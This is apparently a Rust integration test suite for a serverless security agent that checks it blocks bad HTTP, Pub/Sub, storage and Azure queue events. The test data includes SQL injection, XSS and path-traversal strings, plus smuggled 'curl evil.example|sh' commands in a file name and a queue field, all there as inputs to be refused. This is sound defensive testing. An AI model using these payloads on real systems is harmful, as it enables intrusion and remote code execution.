//! The agent before servers, and as extension and wrapper, each against a small platform of the test's own. The function is
//! this test program again, run with [`PART`] in its environment.

#![allow(clippy::unwrap_used)]

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::os::unix::fs::PermissionsExt;
use std::process::{Child, Command, Stdio};
use std::sync::mpsc::{Receiver, Sender};
use std::time::{Duration, Instant};

const PART: &str = "RINGFENCE_TEST_SERVER";
/// Longest wait for anything.
const PATIENCE: Duration = Duration::from_secs(20);

const FENCE: &str = "version: 1
functions:
  orders:
    events:
      - source: http
        method: POST
        path: /orders/{id}
        body: { type: object, required: [qty], properties: { qty: { type: integer }, note: { type: string } } }
      - { source: http, method: GET, path: /slow }
  paid:
    events:
      - source: pubsub
        name: paid
        body: { type: object, required: [id], properties: { id: { type: string } }, additionalProperties: false }
      - { source: cloud-storage, name: uploads }
      - { source: cloudevent }
  Ask:
    events: [ { source: http, method: POST, path: /api/ask } ]
  Work:
    events:
      - { source: storage-queue, body: { type: object, required: [id], properties: { id: { type: integer } } } }
  Runtime:
    events: [ { source: function } ]
";

/// One message: its first line, its headers in lower case, its body.
#[derive(Debug)]
struct Message {
    first: String,
    headers: String,
    body: String,
}

impl Message {
    fn status(&self) -> u16 {
        self.first.split(' ').nth(1).unwrap().parse().unwrap()
    }
}

fn read(stream: &mut impl BufRead) -> Option<Message> {
    let mut first = String::new();
    if stream.read_line(&mut first).ok()? == 0 {
        return None;
    }
    let mut headers = String::new();
    for _ in 0..100 {
        let mut line = String::new();
        stream.read_line(&mut line).ok()?;
        if line.trim().is_empty() {
            break;
        }
        headers.push_str(&line.to_lowercase());
    }
    let length = headers.lines().find_map(|line| line.strip_prefix("content-length: ")?.parse().ok());
    let mut body = vec![0; length.unwrap_or(0)];
    stream.read_exact(&mut body).ok()?;
    Some(Message { first: first.trim_end().into(), headers, body: String::from_utf8(body).unwrap() })
}

fn ask(port: u16, request: &str, headers: &[(&str, &str)], body: &str) -> Message {
    let mut stream = TcpStream::connect(("127.0.0.1", port)).unwrap();
    stream.set_read_timeout(Some(PATIENCE)).unwrap();
    let headers: String = headers.iter().map(|(name, value)| format!("{name}: {value}\r\n")).collect();
    write!(
        stream,
        "{request} HTTP/1.1\r\nHost: x\r\n{headers}Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    )
    .unwrap();
    read(&mut BufReader::new(stream)).expect("no answer")
}

/// The function: says what it got. `/slow` has an answer in two parts, the second after a request for `/go` came.
#[test]
fn server() {
    let Ok(part) = std::env::var(PART) else { return };
    if part == "runtime" {
        return runtime();
    }
    let port: u16 = std::env::var(&part).unwrap().parse().unwrap();
    let listener = TcpListener::bind(("127.0.0.1", port)).unwrap();
    let (go, gone) = std::sync::mpsc::channel();
    let gone = std::sync::Arc::new(std::sync::Mutex::new(gone));
    for stream in listener.incoming().take(200) {
        let (go, gone) = (go.clone(), std::sync::Arc::clone(&gone));
        std::thread::spawn(move || {
            let mut out = stream.unwrap();
            let mut requests = BufReader::new(out.try_clone().unwrap());
            while let Some(request) = read(&mut requests) {
                if request.first.contains("/slow") {
                    write!(out, "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nfirst\r\n").unwrap();
                    let _ = gone.lock().unwrap().recv_timeout(PATIENCE);
                    write!(out, "4\r\nlast\r\n0\r\n\r\n").unwrap();
                    continue;
                }
                if request.body.contains("\"qty\":99") {
                    let _ = go.send(());
                }
                let text = format!("{} got {}", request.first, request.body);
                write!(out, "HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n{text}", text.len()).unwrap();
            }
        });
    }
}

/// A runtime that handles one event and says which of the agent's variables it sees.
fn runtime() {
    let api = std::env::var("AWS_LAMBDA_RUNTIME_API").unwrap();
    let mut out = TcpStream::connect(&api).unwrap();
    let mut answers = BufReader::new(out.try_clone().unwrap());
    write!(out, "GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\nHost: x\r\n\r\n").unwrap();
    let event = read(&mut answers).unwrap();
    let id = event.headers.lines().find_map(|line| line.strip_prefix("lambda-runtime-aws-request-id: ")).unwrap();
    let seen = std::env::vars().filter(|(name, _)| name.starts_with("RINGFENCE_") && name != PART).count();
    let text = format!("{} and {seen} variables", event.body);
    let path = format!("/2018-06-01/runtime/invocation/{}/response", id.trim());
    write!(out, "POST {path} HTTP/1.1\r\nHost: x\r\nContent-Length: {}\r\n\r\n{text}", text.len()).unwrap();
    read(&mut answers).unwrap();
}

fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port()
}

struct Running {
    child: Child,
    folder: tempfile::TempDir,
}

impl Running {
    fn records(&self) -> String {
        std::fs::read_to_string(self.folder.path().join("records")).unwrap_or_default()
    }

    /// Records are written beside the answers.
    fn recorded(&self, expected: &str) {
        let end = Instant::now() + PATIENCE;
        while !self.records().contains(expected) {
            assert!(Instant::now() < end, "no {expected} in\n{}", self.records());
            std::thread::sleep(Duration::from_millis(10));
        }
    }
}

impl Drop for Running {
    fn drop(&mut self) {
        let _ = Command::new("kill").args(["-TERM", &self.child.id().to_string()]).status();
        for _ in 0..200 {
            if self.child.try_wait().unwrap().is_some() {
                return;
            }
            std::thread::sleep(Duration::from_millis(10));
        }
        let _ = self.child.kill();
    }
}

fn command(folder: &std::path::Path, program: &str) -> Command {
    std::fs::write(folder.join("fence.yaml"), FENCE).unwrap();
    let mut command = Command::new(program);
    for (name, _) in std::env::vars().filter(|(name, _)| name.starts_with("RINGFENCE_") || name.starts_with("AWS_")) {
        command.env_remove(name);
    }
    command
        .env("RINGFENCE_FENCE", folder.join("fence.yaml"))
        .env("RINGFENCE_RECORDS", folder.join("records"))
        .stdin(Stdio::null())
        .stdout(Stdio::null());
    command
}

/// An agent before a server, and the port it has.
fn before_server(form: &str, variable: &str, function: Option<&str>) -> (Running, u16) {
    let program = std::env::current_exe().unwrap();
    before(tempfile::tempdir().unwrap(), form, function, |command| {
        command.arg(program).args(["--exact", "server", "--nocapture"]).env(PART, variable).env(variable, "1");
    })
}

fn before(
    folder: tempfile::TempDir,
    form: &str,
    function: Option<&str>,
    server: impl FnOnce(&mut Command),
) -> (Running, u16) {
    let port = free_port();
    let mut command = command(folder.path(), env!("CARGO_BIN_EXE_ringfence-agent"));
    command.args([form, "--listen", &format!("127.0.0.1:{port}")]);
    if let Some(function) = function {
        command.args(["--function", function]);
    }
    command.arg("--");
    server(&mut command);
    let child = command.spawn().unwrap();
    let running = Running { child, folder };
    let end = Instant::now() + PATIENCE;
    while TcpStream::connect(("127.0.0.1", port)).is_err() {
        assert!(Instant::now() < end, "it never listened");
        std::thread::sleep(Duration::from_millis(10));
    }
    (running, port)
}

const JSON: (&str, &str) = ("Content-Type", "application/json");

#[test]
fn a_container_gets_only_the_requests_its_fence_lists() {
    let (agent, port) = before_server("--http", "PORT", Some("orders"));
    let answer = ask(port, "POST /orders/1?x=y", &[JSON], "{\"qty\":1}");
    assert_eq!((answer.status(), answer.body.as_str()), (200, "POST /orders/1?x=y HTTP/1.1 got {\"qty\":1}"));
    for (request, body, rule) in [
        ("POST /admin", "{\"qty\":1}", "fence-unlisted-event"),
        ("POST /orders/1", "{\"qty\":\"many\"}", "schema"),
        ("POST /orders/1", "{\"qty\":1,\"note\":\"x' OR '1'='1' --\"}", "sql-tautology"),
        ("POST /orders/..%2fadmin", "{\"qty\":1}", "fence-unlisted-event"),
        ("POST /orders/%2e", "{\"qty\":1}", "unreadable"),
        ("POST /orders/1?next=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "{\"qty\":1}", "xss"),
    ] {
        let answer = ask(port, request, &[JSON], body);
        assert_eq!(answer.status(), 403, "{request} {body}");
        assert!(answer.body.contains("\"incident\":\"rf-"), "{}", answer.body);
        agent.recorded(&format!("\"rule\":\"{rule}"));
    }
    let upgrade = ask(port, "GET /slow", &[("Connection", "Upgrade"), ("Upgrade", "websocket")], "");
    assert_eq!(upgrade.status(), 501);
    agent.recorded("\"status\":200");
}

#[test]
fn what_a_function_streams_passes_as_it_comes() {
    let (_agent, port) = before_server("--http", "PORT", Some("orders"));
    let mut stream = TcpStream::connect(("127.0.0.1", port)).unwrap();
    stream.set_read_timeout(Some(PATIENCE)).unwrap();
    write!(stream, "GET /slow HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n").unwrap();
    let mut seen = Vec::new();
    while !String::from_utf8_lossy(&seen).contains("first") {
        let mut some = [0; 1024];
        let count = stream.read(&mut some).unwrap();
        assert!(count > 0, "it ended early");
        seen.extend(&some[..count]);
    }
    assert!(!String::from_utf8_lossy(&seen).contains("last"), "the function hasn't written that yet");
    ask(port, "POST /orders/1", &[JSON], "{\"qty\":99}");
    stream.read_to_end(&mut seen).unwrap();
    assert!(String::from_utf8_lossy(&seen).contains("last"));
}

#[test]
fn cloud_events_are_told_by_kind_and_a_refused_one_is_not_delivered_again() {
    let (agent, port) = before_server("--http", "PORT", Some("paid"));
    let published = "google.cloud.pubsub.topic.v1.messagePublished";
    let topic = "//pubsub.googleapis.com/projects/shop/topics/paid";
    let event = |kind: &'static str, source: &'static str| {
        vec![JSON, ("ce-specversion", "1.0"), ("ce-id", "7"), ("ce-type", kind), ("ce-source", source)]
    };
    let message = |data: &str| {
        format!(
            "{{\"message\":{{\"data\":\"{data}\",\"messageId\":\"7\"}},\"subscription\":\"projects/shop/subscriptions/s\"}}"
        )
    };
    // {"id":"1"}
    let honest = message("eyJpZCI6IjEifQ==");
    assert_eq!(ask(port, "POST /", &event(published, topic), &honest).status(), 200);
    let structured = |body: &str| {
        format!(
            "{{\"specversion\":\"1.0\",\"id\":\"7\",\"type\":\"{published}\",\"source\":\"{topic}\",\"data\":{body}}}"
        )
    };
    let media_type = [("Content-Type", "application/cloudevents+json; charset=utf-8")];
    assert_eq!(ask(port, "POST /", &media_type, &structured(&honest)).status(), 200);
    let stored = "google.cloud.storage.object.v1.finalized";
    let bucket = "//storage.googleapis.com/projects/_/buckets/uploads";
    let object = "{\"kind\":\"storage#object\",\"id\":\"uploads/a b.pdf/17\",\"name\":\"a b.pdf\",\"bucket\":\"uploads\",\"size\":\"3\"}";
    assert_eq!(ask(port, "POST /", &event(stored, bucket), object).status(), 200);
    assert_eq!(ask(port, "POST /", &event("shop.paid", "/shop"), "{\"order\":1}").status(), 200);

    // {"id":1}, {"id":"x'; DROP TABLE users; --"}
    let (wrong, attack) = (message("eyJpZCI6MX0="), message("eyJpZCI6IngnOyBEUk9QIFRBQkxFIHVzZXJzOyAtLSJ9"));
    for (what, request, headers, body) in [
        ("a wrong shape, though a wider line has none", "POST /", event(published, topic), wrong.clone()),
        ("SQL in base64", "POST /", event(published, topic), attack.clone()),
        ("SQL in base64, structured", "POST /", media_type.to_vec(), structured(&attack)),
        (
            "another topic",
            "POST /",
            event(published, "//pubsub.googleapis.com/projects/shop/topics/other"),
            honest.clone(),
        ),
        ("half an event", "POST /", media_type.to_vec(), "{\"specversion\":".into()),
        ("an event without a type", "POST /", vec![JSON, ("ce-specversion", "1.0"), ("ce-id", "1")], honest.clone()),
        ("a path no platform delivers to", "POST /admin", event("shop.paid", "/shop"), "{}".into()),
        (
            "a name with a command",
            "POST /",
            event(stored, bucket),
            object.replace("\"a b.pdf\"", "\"a;curl evil.example|sh\""),
        ),
    ] {
        let answer = ask(port, request, &headers, &body);
        assert_eq!(answer.status(), 204, "{what}");
        assert!(answer.headers.contains("ringfence-incident: rf-"), "{what}: {}", answer.headers);
    }
    // Pub/Sub's own push has no headers of an event.
    assert_eq!(
        ask(
            port,
            "POST /",
            &[JSON],
            &honest.replace("projects/shop/subscriptions/s", "projects/shop/subscriptions/paid")
        )
        .status(),
        200
    );
    assert_eq!(ask(port, "POST /", &[JSON], &attack).status(), 204);
    assert_eq!(ask(port, "POST /", &[JSON], "{\"order\":1}").status(), 403, "a plain request is no event");
    agent.recorded("\"action\":\"drop\"");
}

#[test]
fn azures_envelopes_meet_the_fence_of_the_function_they_name() {
    let (agent, port) = before_server("--azure-handler", "FUNCTIONS_CUSTOMHANDLER_PORT", None);
    // As the host asks whether anybody is there.
    assert_eq!(ask(port, "GET /", &[], "").status(), 200);
    let host = [JSON, ("X-Azure-Functions-InvocationId", "d1c8"), ("User-Agent", "Azure-Functions-Host/4.1")];
    let queue = |item: &str| {
        serde_json::json!({
            "Data": {"item": item},
            "Metadata": {"DequeueCount": "1", "PopReceipt": "\"AgAAAA\"", "Id": "\"9a\"", "sys": {"MethodName": "Work"}},
        })
        .to_string()
    };
    // The host writes a text as JSON in a text.
    for honest in ["{\"id\":1}", "\"{\\\"id\\\":1}\""] {
        let answer = ask(port, "POST /Work", &host, &queue(honest));
        assert!(answer.status() == 200 && answer.body.starts_with("POST /Work HTTP/1.1 got"), "{answer:?}");
    }
    for (what, body) in [
        ("a wrong shape", queue("{\"id\":\"x\"}")),
        ("a command", queue("{\"id\":1,\"note\":\"$(curl evil.example|sh)\"}")),
        ("another trigger", "{\"Data\":{\"blob\":\"eA==\"},\"Metadata\":{\"BlobTrigger\":\"in/x\"}}".into()),
    ] {
        let answer = ask(port, "POST /Work", &host, &body);
        assert_eq!(answer.status(), 200, "{what}: an error would have it delivered again");
        assert!(answer.body.contains("\"Outputs\":{}") && answer.body.contains("rf-"), "{what}: {}", answer.body);
    }
    let request = |body: &str| {
        serde_json::json!({
            "Data": {"req": {
                "Url": "https://shop.example/api/ask?x=1", "Method": "POST", "Query": "{\"x\":\"1\"}",
                "Headers": {"Content-Type": ["application/json"]}, "Params": "{}", "Body": body,
            }},
            "Metadata": {"Query": "{\"x\":\"1\"}", "sys": {"MethodName": "Ask"}},
        })
        .to_string()
    };
    assert!(ask(port, "POST /Ask", &host, &request("{\"q\":\"shoes\"}")).body.contains(" got "));
    let answer = ask(port, "POST /Ask", &host, &request("{\"q\":\"x' OR '1'='1' --\"}"));
    let value: serde_json::Value = serde_json::from_str(&answer.body).unwrap();
    assert_eq!((answer.status(), &value["ReturnValue"]["statusCode"]), (200, &403.into()));
    // Forwarded as it came.
    assert!(ask(port, "POST /api/ask", &[JSON], "{\"q\":\"shoes\"}").body.contains(" got "));
    assert_eq!(ask(port, "POST /api/ask", &[JSON], "{\"q\":\"x' OR '1'='1' --\"}").status(), 403);
    assert_eq!(ask(port, "POST /api/other", &[JSON], "{}").status(), 403);
    let unknown = ask(port, "POST /Unlisted", &host, &queue("{\"id\":1}"));
    assert!(unknown.body.contains("\"Outputs\":{}"), "{unknown:?}");
    agent.recorded("\"trigger\":\"storage-queue\"");
    agent.recorded("\"function\":\"Work\"");
}

/// A Runtime and Extensions API that hands out `events`: its port, what it is told, and what ends it.
fn platform(events: Vec<&'static str>) -> (u16, Receiver<String>, Sender<()>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let (told, heard) = std::sync::mpsc::channel();
    let events = std::sync::Arc::new(std::sync::Mutex::new(events.into_iter()));
    let (end, ended) = std::sync::mpsc::channel::<()>();
    let ended = std::sync::Arc::new(std::sync::Mutex::new(ended));
    std::thread::spawn(move || {
        for stream in listener.incoming().take(50) {
            let (told, events, ended) = (told.clone(), events.clone(), ended.clone());
            std::thread::spawn(move || {
                let mut out = stream.unwrap();
                let mut requests = BufReader::new(out.try_clone().unwrap());
                while let Some(request) = read(&mut requests) {
                    let path = request.first.split(' ').nth(1).unwrap().to_owned();
                    let (headers, body) = if path.ends_with("extension/register") {
                        assert!(request.headers.contains("lambda-extension-name: ringfence"));
                        let _ = told.send(format!("register {}", request.body));
                        ("Lambda-Extension-Identifier: e-1\r\n", "{}".to_owned())
                    } else if path.ends_with("extension/event/next") {
                        let _ = ended.lock().unwrap().recv_timeout(PATIENCE);
                        ("", "{\"eventType\":\"SHUTDOWN\"}".to_owned())
                    } else if path.ends_with("invocation/next") {
                        let Some(event) = events.lock().unwrap().next() else { return };
                        ("Lambda-Runtime-Aws-Request-Id: r-1\r\n", event.to_owned())
                    } else {
                        let _ = told.send(format!("{} {}", path.rsplit('/').next().unwrap(), request.body));
                        ("", "{}".to_owned())
                    };
                    let length = body.len();
                    if write!(out, "HTTP/1.1 200 OK\r\n{headers}Content-Length: {length}\r\n\r\n{body}").is_err() {
                        return;
                    }
                }
            });
        }
    });
    (port, heard, end)
}

#[test]
fn the_wrapper_sends_a_runtime_to_the_extension() {
    let (port, heard, end) = platform(vec!["{\"q\":\"x' OR '1'='1' --\"}", "{\"q\":\"shoes\"}"]);
    let heard = || heard.recv_timeout(PATIENCE).expect("nothing was told");
    let folder = tempfile::tempdir().unwrap();
    let place = folder.path().join("handover");
    // What an earlier function left there to lead the next runtime elsewhere.
    std::fs::write(&place, format!("127.0.0.1:{port}")).unwrap();
    let extensions = folder.path().join("extensions");
    std::fs::create_dir(&extensions).unwrap();
    let links = [extensions.join("ringfence"), folder.path().join("ringfence-wrapper")];
    for link in &links {
        std::os::unix::fs::symlink(env!("CARGO_BIN_EXE_ringfence-agent"), link).unwrap();
    }
    let start = |program: &std::path::Path| {
        let mut command = command(folder.path(), program.to_str().unwrap());
        command
            .env("AWS_LAMBDA_RUNTIME_API", format!("127.0.0.1:{port}"))
            .env("AWS_LAMBDA_FUNCTION_NAME", "Runtime")
            .env("RINGFENCE_HANDOVER", &place);
        command
    };
    let mut extension = start(&links[0]).spawn().unwrap();
    assert_eq!(heard(), "register {\"events\":[\"SHUTDOWN\"]}");
    let left = std::fs::metadata(&place).unwrap();
    assert_eq!(left.permissions().mode() & 0o777, 0o600);
    assert_ne!(std::fs::read_to_string(&place).unwrap(), format!("127.0.0.1:{port}"));
    let program = std::env::current_exe().unwrap();
    let runtime =
        start(&links[1]).arg(program).args(["--exact", "server", "--nocapture"]).env(PART, "runtime").status();
    assert!(runtime.unwrap().success());
    assert!(heard().starts_with("error {\"errorType\":\"Ringfence.Refused\""));
    assert_eq!(heard(), "response {\"q\":\"shoes\"} and 0 variables");
    end.send(()).unwrap();
    assert!(extension.wait().unwrap().success());
    let records = std::fs::read_to_string(folder.path().join("records")).unwrap();
    assert!(records.contains("\"reason\":\"shutdown\""), "{records}");

    // Nobody listens there any more.
    let alone = start(&links[1]).args(["/bin/sh", "-c", "exit 0"]).status().unwrap();
    assert_eq!(alone.code(), Some(78));
    assert!(heard().starts_with("error {\"errorType\":\"Ringfence.Configuration\""));
    // A file that others can write leads nowhere, whoever listens there.
    std::fs::write(&place, format!("127.0.0.1:{port}")).unwrap();
    std::fs::set_permissions(&place, std::fs::Permissions::from_mode(0o666)).unwrap();
    assert_eq!(start(&links[1]).args(["/bin/sh", "-c", "exit 0"]).status().unwrap().code(), Some(78));
}

#[test]
fn an_extension_that_cannot_hold_the_fence_fails_the_start() {
    let (port, heard, _end) = platform(vec![]);
    let folder = tempfile::tempdir().unwrap();
    let mut command = command(folder.path(), env!("CARGO_BIN_EXE_ringfence-agent"));
    command
        .args(["--extension", "--function", "Runtme"])
        .env("AWS_LAMBDA_RUNTIME_API", format!("127.0.0.1:{port}"))
        .env("RINGFENCE_HANDOVER", folder.path().join("handover"));
    assert_eq!(command.status().unwrap().code(), Some(78));
    let said: Vec<String> = heard.into_iter().take(3).collect();
    assert!(said.iter().any(|line| line.starts_with("error ") && line.contains("did you mean `Runtime`?")), "{said:?}");
    assert!(!folder.path().join("handover").exists());
}

/// A program of a real client: where the variable says, otherwise by its name.
fn client(variable: &str, name: &str) -> Option<String> {
    let program = std::env::var(variable).unwrap_or_else(|_| name.to_owned());
    let there = Command::new(&program).arg("--help").stdout(Stdio::null()).stderr(Stdio::null()).status();
    if there.is_err() {
        eprintln!("skipped: no `{program}`; {variable} says where it is");
        return None;
    }
    Some(program)
}

const PUBLISHED: [(&str, &str); 5] = [
    JSON,
    ("ce-specversion", "1.0"),
    ("ce-id", "7"),
    ("ce-type", "google.cloud.pubsub.topic.v1.messagePublished"),
    ("ce-source", "//pubsub.googleapis.com/projects/shop/topics/paid"),
];

/// Requests to a real framework whose function `orders` answers with what it got.
fn asks_orders(port: u16) {
    let answer = ask(port, "POST /orders/1", &[JSON, ("User-Agent", "curl/8.5.0")], "{\"qty\":1}");
    // It may come in chunks, which `read` doesn't read.
    assert_eq!(answer.status(), 200, "{answer:?}");
    for (request, body) in
        [("POST /admin", "{\"qty\":1}"), ("POST /orders/1", "{\"qty\":1,\"note\":\"x' OR '1'='1' --\"}")]
    {
        assert_eq!(ask(port, request, &[JSON], body).status(), 403, "{request}");
    }
}

/// Events to a real framework whose function `paid` writes a line for each into a file.
fn asks_paid(port: u16, seen: &std::path::Path) {
    let delivery = |data: &str| {
        format!(
            "{{\"message\":{{\"data\":\"{data}\",\"messageId\":\"7\"}},\"subscription\":\"projects/shop/subscriptions/s\"}}"
        )
    };
    let structured = |data: &str| {
        let attributes: String = PUBLISHED[1..]
            .iter()
            .map(|(name, value)| format!("\"{}\":\"{value}\",", name.trim_start_matches("ce-")))
            .collect();
        format!("{{{attributes}\"datacontenttype\":\"application/json\",\"data\":{}}}", delivery(data))
    };
    let media_type = [("Content-Type", "application/cloudevents+json")];
    // {"id":"1"}, {"id":"x'; DROP TABLE users; --"}
    let (honest, attack) = ("eyJpZCI6IjEifQ==", "eyJpZCI6IngnOyBEUk9QIFRBQkxFIHVzZXJzOyAtLSJ9");
    for (headers, body, passes) in [
        (&PUBLISHED[..], delivery(honest), true),
        (&PUBLISHED, delivery(attack), false),
        (&media_type, structured(honest), true),
        (&media_type, structured(attack), false),
    ] {
        let answer = ask(port, "POST /", headers, &body);
        assert!(matches!(answer.status(), 200 | 204), "{answer:?}");
        assert_eq!(!answer.headers.contains("ringfence-incident"), passes, "{answer:?}");
    }
    assert_eq!(std::fs::read_to_string(seen).unwrap().lines().count(), 2);
}

#[test]
fn googles_framework_for_python_sees_only_what_passes() {
    let Some(framework) = client("RINGFENCE_TEST_FUNCTIONS_FRAMEWORK", "functions-framework") else { return };
    for (target, signature) in [("orders", "http"), ("paid", "cloudevent")] {
        let folder = tempfile::tempdir().unwrap();
        let (source, seen) = (folder.path().join("main.py"), folder.path().join("seen"));
        let text = "import os, functions_framework\n\n@functions_framework.http\ndef orders(request):\n    return request.get_json()\n\n\
                    @functions_framework.cloud_event\ndef paid(event):\n    open(os.environ['SEEN'], 'a').write(event['id'] + '\\n')\n";
        std::fs::write(&source, text).unwrap();
        let (_agent, port) = before(folder, "--http", Some(target), |command| {
            command.arg(&framework).args(["--host", "127.0.0.1", "--target", target, "--signature-type", signature]);
            command.arg("--source").arg(&source).env("SEEN", &seen);
        });
        if target == "orders" { asks_orders(port) } else { asks_paid(port, &seen) }
    }
}

#[test]
fn googles_framework_for_node_sees_only_what_passes() {
    let Some(node) = client("RINGFENCE_TEST_NODE", "node") else { return };
    let Ok(modules) = std::env::var("RINGFENCE_TEST_NODE_MODULES") else {
        eprintln!("skipped: RINGFENCE_TEST_NODE_MODULES doesn't say where @google-cloud/functions-framework is");
        return;
    };
    for target in ["orders", "paid"] {
        let folder = tempfile::tempdir().unwrap();
        let (source, seen) = (folder.path().join("index.js"), folder.path().join("seen"));
        // By its server for tests: the program itself listens on every address.
        let text = "const framework = require('@google-cloud/functions-framework');\n\
             const { getTestServer } = require('@google-cloud/functions-framework/testing');\n\
             framework.http('orders', (request, response) => response.json(request.body));\n\
             framework.cloudEvent('paid', (event) => require('fs').appendFileSync(process.env.SEEN, event.id + '\\n'));\n\
             getTestServer(process.argv[2]).listen(+process.env.PORT, '127.0.0.1');\n";
        std::fs::write(&source, text).unwrap();
        let (_agent, port) = before(folder, "--http", Some(target), |command| {
            command.arg(&node).arg(&source).arg(target).env("NODE_PATH", &modules).env("SEEN", &seen);
        });
        if target == "orders" { asks_orders(port) } else { asks_paid(port, &seen) }
    }
}
